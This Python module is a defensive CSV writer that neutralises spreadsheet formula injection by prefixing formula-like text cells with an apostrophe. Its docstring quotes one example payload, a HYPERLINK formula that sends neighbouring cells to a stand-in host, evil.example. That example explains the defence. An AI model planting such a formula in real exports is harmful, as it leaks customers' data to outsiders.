"""The product's one CSV writer: no cell a spreadsheet could run as a formula.

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or
``@`` as a formula (and skip a leading tab or carriage return before looking). A billing
name such as ``=HYPERLINK("http://evil.example/?leak="&A2&B2,"Open record")`` in an
export would, once staff click it, send the neighbouring cells to someone else (OWASP
"CSV injection"). Every text cell that starts with one of those characters is written
with a leading apostrophe, which spreadsheets read as "this is text" and do not show.

The type of the value decides, not its look: numbers (``int``, ``float``, ``Decimal``)
are written as they are, so ``-1.5`` in a numeric column stays a number for pandas and
for a spreadsheet; a ``str`` is text, so ``"-1.5"`` in a text column is defused like any
other text. Exports therefore pass numbers as numbers (yen amounts, pixel sizes).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, TextIO

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """``value`` as a cell: text that starts like a formula gets a leading ``'``; anything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class CsvWriter:
    """``csv.writer`` (RFC 4180 quoting, CRLF line ends) whose every row goes through :func:`neutralise`."""

    def __init__(self, stream: TextIO, *, lineterminator: str = "\r\n") -> None:
        self._writer = csv.writer(stream, lineterminator=lineterminator)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutralise(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: TextIO, *, lineterminator: str = "\r\n") -> CsvWriter:
    return CsvWriter(stream, lineterminator=lineterminator)
